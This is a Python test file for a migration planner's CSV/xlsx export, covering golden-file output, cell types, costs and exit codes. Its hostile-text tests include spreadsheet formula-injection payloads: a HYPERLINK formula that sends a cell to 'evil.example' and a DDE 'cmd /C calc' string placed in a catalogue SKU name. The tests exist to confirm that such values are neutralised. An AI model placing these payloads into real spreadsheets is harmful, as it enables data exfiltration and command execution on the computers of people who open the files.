"""`planner export`: the work list's content (CSV golden file, xlsx read back with openpyxl), hostile text, exit codes.

Golden file: tests/golden/worklist.csv is the CSV export of reports/plan.json with the sample inventory/.
After a deliberate change (or a re-planned sample), regenerate it with
`PLANNER_REGEN_GOLDEN=1 python -m pytest -q -p no:cacheprovider tests/test_export.py` and review the diff.
"""

from __future__ import annotations

import copy
import csv
import dataclasses
import datetime as dt
import io
import json
import os
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from helpers import BASE, inventory, workload
from hypothesis import given, settings
from hypothesis import strategies as st

from planner import Estate, load_catalog, load_inventory, make_plan, read_plan
from planner.cli import default_inventory, main
from planner.domain.costs import monthly_run
from planner.outputs.export import (
    WAVE_COLUMNS,
    WORK_COLUMNS,
    ExportError,
    InventoryMismatch,
    Worklist,
    WorkRow,
    build_worklist,
    csv_chunks,
    neutralise,
    write_csv,
    write_xlsx,
    xlsx_bytes,
)

HERE = Path(__file__).parent
ROOT = HERE.parent
GOLDEN = HERE / "golden" / "worklist.csv"
REGEN = os.environ.get("PLANNER_REGEN_GOLDEN") == "1"
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2-2", "@SUM(A1:A9)", "\tcmd", "\rcmd", "\ncmd",
           "\uff1dSUM(1)", "plain", "a=b", " =1", "'=1"]
# What a spreadsheet reads as the start of a formula (OWASP), and the full-width forms: spelled out, not imported.
TRIGGERS = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def run(*args):
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)


@pytest.fixture(scope="module")
def sample():
    """The sample estate, its committed plan and their work list."""
    estate = Estate.of(load_inventory(default_inventory()))
    plan = read_plan(ROOT / "reports" / "plan.json")
    if plan.inventory_sha256 != estate.inventory.sha256:
        pytest.fail("reports/plan.json is stale: re-run `planner plan` (it writes reports/ too)")
    return plan, estate, build_worklist(plan, estate)


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def ooxml(text: str) -> str:
    """`text` as an xlsx file stores it: control characters other than tab and line feed as `_xHHHH_` (Excel decodes them)."""
    return re.sub(r"[\x00-\x08\x0b-\x1f]", lambda m: f"_x{ord(m.group()):04X}_", text)


def column_widths(ws) -> dict[int, float]:
    """Column number (1-based) to width; one `<col>` element may cover several equal columns."""
    return {n: dim.width for dim in ws.column_dimensions.values() for n in range(dim.min, dim.max + 1)}


# ----------------------------------------------------------------------------- the sample plan


def test_sample_csv_matches_the_golden_file(tmp_path, sample):
    out = tmp_path / "worklist.csv"
    result = run("export", ROOT / "reports" / "plan.json", "--inventory", default_inventory(), "--format", "csv",
                 "--out", out, "--quiet")
    assert result.exit_code == 0, result.output
    assert result.output.strip() == str(out)
    if REGEN:
        shutil.copyfile(out, GOLDEN)
    assert out.read_bytes() == GOLDEN.read_bytes(), "the work list changed: regenerate tests/golden/worklist.csv and review it"


def test_csv_rows_are_the_plans_assignments_with_todays_cost(tmp_path, sample):
    plan, estate, worklist = sample
    write_csv(worklist, tmp_path / "w.csv")
    assert (tmp_path / "w.csv").read_bytes().count(b"\r\n") == len(estate.workloads) + 1
    rows = read_csv(tmp_path / "w.csv")
    assert list(rows[0]) == [c.key for c in WORK_COLUMNS]
    assert len(rows) == len(estate.workloads) == len({r["workload"] for r in rows})
    by_id = {a.workload: a for a in plan.assignments}
    waves = {w.number: w for w in plan.waves}
    for r in rows:
        a, w = by_id[r["workload"]], estate.workloads[estate.workload_index[r["workload"]]]
        site = estate.site_by_id[a.site]
        today = monthly_run(estate, w, estate.site_by_id[w.current_site])
        assert (r["app"], r["env"], r["criticality"], r["from_site"]) == (w.app, w.env, w.criticality.value, w.current_site)
        assert (r["to_site"], r["kind"], r["country"]) == (a.site, site.kind.value, estate.site_country(site))
        assert r["sku"] == (a.sku or "")
        assert r["pricing"] == ("" if site.cost is not None and site.cost.vcpu_month is not None else "payg")
        assert float(r["monthly_cost_before"]) == pytest.approx(today.monthly, abs=0.005)
        assert float(r["monthly_cost_after"]) == a.monthly_cost and float(r["one_time_cost"]) == a.one_time_cost
        if a.wave is None:
            assert r["wave"] == r["wave_start"] == r["wave_end"] == "" and r["from_site"] == r["to_site"]
        else:
            wave = waves[a.wave]
            assert (int(r["wave"]), r["wave_start"], r["wave_end"]) == (a.wave, wave.start.isoformat(), wave.end.isoformat())
    order = [(r["wave"] == "", int(r["wave"] or 0), r["workload"]) for r in rows]
    assert order == sorted(order)
    assert rows[-1]["wave"] == "" and rows[0]["wave"] == "1"


def test_xlsx_has_a_frozen_filtered_header_widths_and_typed_cells(tmp_path, sample):
    plan, estate, worklist = sample
    result = run("export", ROOT / "reports" / "plan.json", "--format", "xlsx", "--out", tmp_path / "w.xlsx", "--quiet")
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(tmp_path / "w.xlsx")
    assert book.sheetnames == ["Work list", "Waves"]
    ws = book["Work list"]
    header = [c.value for c in ws[1]]
    assert header[:3] == ["Workload", "App", "Env"] and header[-3:] == [
        "Monthly cost before (EUR)", "Monthly cost after (EUR)", "One-time cost (EUR)"]
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:P{len(estate.workloads) + 1}"
    assert ws.max_row == len(estate.workloads) + 1
    csv_rows = list(csv.DictReader(io.StringIO("".join(csv_chunks(worklist)))))
    widths = column_widths(ws)
    for j, (title, col) in enumerate(zip(header, WORK_COLUMNS)):
        longest = max(len(r[col.key]) for r in csv_rows)  # the CSV's text of each cell, without thousands separators
        assert max(len(title), min(longest, 58)) < widths[j + 1] <= 63, (title, widths[j + 1])
    for i, r in enumerate(csv_rows, start=2):
        cells = {c.key: ws.cell(i, j + 1) for j, c in enumerate(WORK_COLUMNS)}
        assert cells["workload"].value == r["workload"] and cells["workload"].data_type == "s"
        assert cells["monthly_cost_after"].data_type == "n" and cells["monthly_cost_after"].number_format == "#,##0.00"
        assert cells["monthly_cost_after"].value == pytest.approx(float(r["monthly_cost_after"]))
        if r["wave"]:
            assert cells["wave"].value == int(r["wave"])
            assert cells["wave_start"].value == dt.datetime.fromisoformat(r["wave_start"])
            assert cells["wave_start"].number_format == "yyyy-mm-dd"
        else:
            assert cells["wave"].value is None and cells["wave_start"].value is None


def test_xlsx_waves_sheet_adds_up_the_work_list(tmp_path, sample):
    plan, estate, worklist = sample
    write_xlsx(worklist, tmp_path / "w.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "w.xlsx")["Waves"]
    assert [c.value for c in ws[1]] == ["Wave", "Phase", "Start", "End", "Workloads", "Effort hours", "One-time cost (EUR)",
                                        "Monthly saving (EUR)"]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:H{len(plan.waves) + 1}"
    got = [dict(zip([c.key for c in WAVE_COLUMNS], (c.value for c in row))) for row in ws.iter_rows(min_row=2)]
    assert [g["wave"] for g in got] == sorted(w.number for w in plan.waves)
    rows_of = {w.number: [r for r in worklist.rows if r.wave == w.number] for w in plan.waves}
    for g, wave in zip(got, sorted(plan.waves, key=lambda w: w.number)):
        members = [estate.workloads[estate.workload_index[wid]] for wid in wave.workloads]
        assert (g["phase"], g["start"].date(), g["end"].date()) == (wave.phase, wave.start, wave.end)
        assert g["workloads"] == len(wave.workloads) == len(rows_of[wave.number])
        assert g["effort_hours"] == pytest.approx(sum(estate.effort_hours(w) for w in members))
        assert g["one_time_cost"] == pytest.approx(sum(r.one_time_cost for r in rows_of[wave.number]))
        assert g["monthly_saving"] == pytest.approx(
            sum(r.monthly_cost_before - r.monthly_cost_after for r in rows_of[wave.number]), abs=0.006)
    # Every workload's saving is rounded to cents, so the waves add up to plan.json's saving within half a cent each.
    moved = sum(len(w.workloads) for w in plan.waves)
    assert sum(g["monthly_saving"] for g in got) == pytest.approx(plan.schedule.monthly_savings, abs=0.005 * moved + 0.01)


@pytest.mark.parametrize("constant_memory", [False, True])
def test_xlsx_is_byte_identical_for_the_same_input(sample, constant_memory):
    _, _, worklist = sample
    first = xlsx_bytes(worklist, constant_memory)
    assert first == xlsx_bytes(worklist, constant_memory)
    with zipfile.ZipFile(io.BytesIO(first)) as z:
        core = z.read("docProps/core.xml").decode()
    assert "<dcterms:created xsi:type=\"dcterms:W3CDTF\">1980-01-01T00:00:00Z" in core


def test_constant_memory_mode_writes_the_same_cells(sample):
    _, _, worklist = sample

    def cells(data: bytes) -> dict:
        book = openpyxl.load_workbook(io.BytesIO(data))
        return {name: [[(c.value, c.number_format) for c in row] for row in book[name].iter_rows()] for name in book.sheetnames}

    assert cells(xlsx_bytes(worklist, constant_memory=True)) == cells(xlsx_bytes(worklist, constant_memory=False))


def test_large_work_lists_are_streamed(sample):
    from planner.outputs.limits import OutputLimits, use

    _, _, worklist = sample

    def sheet_xml(data: bytes) -> str:
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            return z.read("xl/worksheets/sheet1.xml").decode()

    assert 't="inlineStr"' not in sheet_xml(xlsx_bytes(worklist))  # small: shared strings, built in memory
    with use(OutputLimits(constant_memory_rows=len(worklist.rows) - 1)):
        assert 't="inlineStr"' in sheet_xml(xlsx_bytes(worklist))  # constant_memory mode writes each row's strings inline


@pytest.mark.slow
def test_defaults_inventory_and_out_beside_the_plan(tmp_path):
    shutil.copyfile(ROOT / "reports" / "plan.json", tmp_path / "plan.json")
    result = run("export", tmp_path / "plan.json", "--quiet")
    assert result.exit_code == 0, result.output
    assert result.output.strip() == str(tmp_path / "worklist.xlsx")
    assert openpyxl.load_workbook(tmp_path / "worklist.xlsx").sheetnames == ["Work list", "Waves"]
    assert run("export", tmp_path / "plan.json", "--format", "csv", "--quiet").exit_code == 0
    assert (tmp_path / "worklist.csv").read_bytes() == GOLDEN.read_bytes()
    assert run("export", tmp_path / "plan.json", "--out", tmp_path / "team.csv", "--quiet").exit_code == 0
    assert (tmp_path / "team.csv").read_bytes() == GOLDEN.read_bytes()  # the format follows --out's extension


# ----------------------------------------------------------------------------- hostile text


def _worklist_of(texts: list[str]) -> Worklist:
    """A work list whose every text cell holds one of `texts` (built directly, as a script would)."""
    rows = [WorkRow(t, t, t, t, t, t, t, t, t, t, 1, dt.date(2027, 1, 1), dt.date(2027, 1, 30), -12.5, 3.0, 0.0)
            for t in texts]
    return Worklist("EUR", "0" * 64, rows, [])


def test_csv_neutralises_formula_text_and_keeps_numbers(tmp_path):
    write_csv(_worklist_of(HOSTILE), tmp_path / "w.csv")
    rows = read_csv(tmp_path / "w.csv")
    for text, row in zip(HOSTILE, rows):
        for c in WORK_COLUMNS:
            if c.kind == "text":
                assert row[c.key] == ("'" + text if text[0] in TRIGGERS else text)
        assert row["monthly_cost_before"] == "-12.50" and row["wave"] == "1"  # numbers are never prefixed


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=30))
def test_no_csv_cell_starts_like_a_formula(text):
    cell = list(csv.reader(io.StringIO("".join(csv_chunks(_worklist_of([text]))))))[1][0]
    assert cell == neutralise(text)
    assert not cell or cell[0] not in TRIGGERS
    assert cell.removeprefix("'") == text or cell == text


def test_xlsx_writes_formula_text_as_quoted_strings(tmp_path):
    write_xlsx(_worklist_of(HOSTILE), tmp_path / "w.xlsx")
    with zipfile.ZipFile(tmp_path / "w.xlsx") as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere
    ws = openpyxl.load_workbook(tmp_path / "w.xlsx")["Work list"]
    for i, text in enumerate(HOSTILE, start=2):
        for j, c in enumerate(WORK_COLUMNS, start=1):
            cell = ws.cell(i, j)
            if c.kind == "text":
                assert cell.data_type == "s" and cell.value == ooxml(text)
                assert cell.quotePrefix == (text[0] in TRIGGERS), (text, c.key)
        assert ws.cell(i, 14).value == -12.5 and ws.cell(i, 14).data_type == "n"


CATALOG = {
    "format": "azure-vm-catalog/1", "currency": "EUR", "snapshot": True, "snapshot_date": "2026-01-01", "source": "test",
    "regions": {"germanywestcentral": {"disk_gb_month": 0.1, "egress_gb": 0.08}},
    "skus": [
        {"region": "germanywestcentral", "name": "=HYPERLINK(\"http://evil.example\",\"x\")", "vcpu": 2, "memory_gb": 8, "hourly": 0.01},
        {"region": "germanywestcentral", "name": "@SUM(1+1)*cmd|' /C calc'!A0", "vcpu": 4, "memory_gb": 16, "hourly": 0.02},
    ],
}


def test_a_hostile_catalogue_sku_is_neutralised_end_to_end(tmp_path):
    catalog_path = tmp_path / "catalog.json"
    catalog_path.write_text(json.dumps(CATALOG), encoding="utf-8")
    sites = copy.deepcopy(BASE["sites"]) + [{"id": "az-gwc", "kind": "azure", "zone": "frankfurt", "region": "germanywestcentral"}]
    inv_path = inventory(tmp_path, [workload("a", vcpu=2, memory_gb=8), workload("b", app="b", vcpu=4, memory_gb=16)], sites=sites)
    inv = load_inventory(inv_path, load_catalog(catalog_path))
    result = make_plan(inv, estate=Estate.of(inv, load_catalog(catalog_path)))
    assert {a.site for a in result.plan.assignments} == {"az-gwc"}
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "plan.json").write_text(result.plan.to_json(), encoding="utf-8")
    for fmt in ("csv", "xlsx"):
        done = run("export", tmp_path / "out" / "plan.json", "--inventory", inv_path, "--catalog", catalog_path,
                   "--format", fmt, "--quiet")
        assert done.exit_code == 0, done.output
    rows = {r["workload"]: r for r in read_csv(tmp_path / "out" / "worklist.csv")}
    assert rows["a"]["sku"] == "'" + CATALOG["skus"][0]["name"] and rows["b"]["sku"] == "'" + CATALOG["skus"][1]["name"]
    assert rows["a"]["pricing"] == "payg"
    ws = openpyxl.load_workbook(tmp_path / "out" / "worklist.xlsx")["Work list"]
    skus = {ws.cell(i, 1).value: ws.cell(i, 9) for i in range(2, ws.max_row + 1)}
    assert skus["a"].value == CATALOG["skus"][0]["name"] and skus["a"].data_type == "s" and skus["a"].quotePrefix


# ----------------------------------------------------------------------------- pricing and costs


def _small_plan(tmp_path: Path, workloads: list[dict], **sections) -> tuple[Path, object, Estate]:
    path = inventory(tmp_path, workloads, **sections)
    inv = load_inventory(path)
    estate = Estate.of(inv)
    return path, make_plan(inv, estate=estate).plan, estate


def test_pricing_comes_from_the_plan_else_payg_on_catalogue_sites(tmp_path):
    sites = copy.deepcopy(BASE["sites"]) + [{"id": "az-gwc", "kind": "azure", "zone": "frankfurt", "region": "germanywestcentral"}]
    _, plan, estate = _small_plan(tmp_path, [workload("a", pin="az-gwc"), workload("b", app="b", pin="az-fra"),
                                             workload("c", app="c", pin="mad-dc1")], sites=sites)
    rows = {r.workload: r for r in build_worklist(plan, estate).rows}
    assert (rows["a"].pricing, rows["b"].pricing, rows["c"].pricing) == ("payg", None, None)  # az-fra is rate-priced
    assert rows["a"].sku and rows["b"].sku is None
    priced = dataclasses.replace(plan, assignments=[
        dataclasses.replace(a, pricing="reserved-3y" if a.workload == "a" else None) for a in plan.assignments])
    rows = {r.workload: r for r in build_worklist(priced, estate).rows}
    assert (rows["a"].pricing, rows["b"].pricing) == ("reserved-3y", None)


def test_a_dearer_forced_move_shows_a_negative_saving_as_a_number(tmp_path):
    sites = copy.deepcopy(BASE["sites"])
    sites[1]["closes"] = "2027-06-01"  # az-fra, the cheapest EU site, closes: its workload must go to the dearer mad-dc1
    _, plan, estate = _small_plan(tmp_path, [workload("a", current_site="az-fra", data=["personal-eu"])], sites=sites)
    worklist = build_worklist(plan, estate)
    (row,) = worklist.rows
    assert (row.from_site, row.to_site, row.monthly_cost_before, row.monthly_cost_after) == ("az-fra", "mad-dc1", 24.5, 49.0)
    (wave,) = [w for w in worklist.waves if w.workloads]
    assert wave.monthly_saving == -24.5 and wave.one_time_cost == 100.0 and wave.effort_hours == 8.0
    write_xlsx(worklist, tmp_path / "w.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "w.xlsx")["Waves"]
    saving = [r for r in ws.iter_rows(min_row=2) if r[4].value][0][7]
    assert saving.value == -24.5 and saving.data_type == "n"
    write_csv(worklist, tmp_path / "w.csv")
    assert read_csv(tmp_path / "w.csv")[0]["monthly_cost_before"] == "24.50"


# ----------------------------------------------------------------------------- bad input: exit 2, nothing written


def test_a_plan_of_another_inventory_is_refused(tmp_path):
    path, plan, estate = _small_plan(tmp_path, [workload("a")])
    (tmp_path / "plan.json").write_text(plan.to_json(), encoding="utf-8")
    other = inventory(tmp_path, [workload("a"), workload("b")], name="other.yaml")
    result = run("export", tmp_path / "plan.json", "--inventory", other, "--format", "csv")
    assert result.exit_code == 2 and "different inventory" in result.output and "--inventory" in result.output
    assert not (tmp_path / "worklist.csv").exists()
    with pytest.raises(InventoryMismatch):
        build_worklist(plan, Estate.of(load_inventory(other)))


def test_an_infeasible_plan_has_nothing_to_export(tmp_path):
    path, plan, estate = _small_plan(tmp_path, [workload("a", data=["personal-eu"], pin="az-sao")])
    assert plan.status == "infeasible"
    (tmp_path / "plan.json").write_text(plan.to_json(), encoding="utf-8")
    result = run("export", tmp_path / "plan.json", "--inventory", path)
    assert result.exit_code == 2 and "'infeasible'" in result.output and "nothing to export" in result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["inv.yaml", "plan.json"]


def test_unreadable_plans_and_unwritable_outputs_exit_2(tmp_path):
    path, plan, estate = _small_plan(tmp_path, [workload("a")])
    (tmp_path / "plan.json").write_text(plan.to_json(), encoding="utf-8")
    (tmp_path / "broken.json").write_text("{not json", encoding="utf-8")
    cases = {
        "not json": ["export", tmp_path / "broken.json", "--inventory", path],
        "missing": ["export", tmp_path / "nope.json", "--inventory", path],
        "out under a file": ["export", tmp_path / "plan.json", "--inventory", path, "--out", tmp_path / "inv.yaml" / "w.xlsx"],
        "out is a folder": ["export", tmp_path / "plan.json", "--inventory", path, "--out", tmp_path],
        "format vs extension": ["export", tmp_path / "plan.json", "--inventory", path, "--format", "csv", "--out", tmp_path / "w.xlsx"],
        "bad format": ["export", tmp_path / "plan.json", "--inventory", path, "--format", "pdf"],
        "out is the plan": ["export", tmp_path / "plan.json", "--inventory", path, "--out", tmp_path / "plan.json"],
    }
    for name, args in cases.items():
        result = CliRunner().invoke(main, [str(a) for a in args])
        assert result.exit_code == 2, (name, result.output)
        assert "Traceback" not in result.output, name
        assert result.exception is None or isinstance(result.exception, SystemExit), (name, result.exception)
    assert "cannot write" in CliRunner().invoke(main, [str(a) for a in cases["out under a file"]]).output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["broken.json", "inv.yaml", "plan.json"]
    assert read_plan(tmp_path / "plan.json") == plan


@pytest.mark.parametrize("edit, message", [
    (lambda doc: doc["assignments"][0].update(workload="ghost"), "'ghost', which the inventory does not hold"),
    (lambda doc: doc["assignments"][0].update(site="nowhere"), "site 'nowhere'"),
    (lambda doc: doc["assignments"][0].update(wave=99), "wave 99"),
    (lambda doc: doc["assignments"].append(dict(doc["assignments"][0])), "more than once"),
    (lambda doc: doc["assignments"].pop(), "does not assign workload"),
])
def test_a_plan_that_does_not_match_its_inventory_is_refused(tmp_path, edit, message):
    path, plan, estate = _small_plan(tmp_path, [workload("a"), workload("b", app="b", current_site="az-fra")])
    doc = json.loads(plan.to_json())
    edit(doc)
    (tmp_path / "plan.json").write_text(json.dumps(doc), encoding="utf-8")
    result = run("export", tmp_path / "plan.json", "--inventory", path, "--format", "csv")
    assert result.exit_code == 2 and message in result.output, result.output
    assert not (tmp_path / "worklist.csv").exists()
    with pytest.raises(ExportError, match=message.replace("(", r"\(")):
        build_worklist(read_plan(tmp_path / "plan.json"), estate)
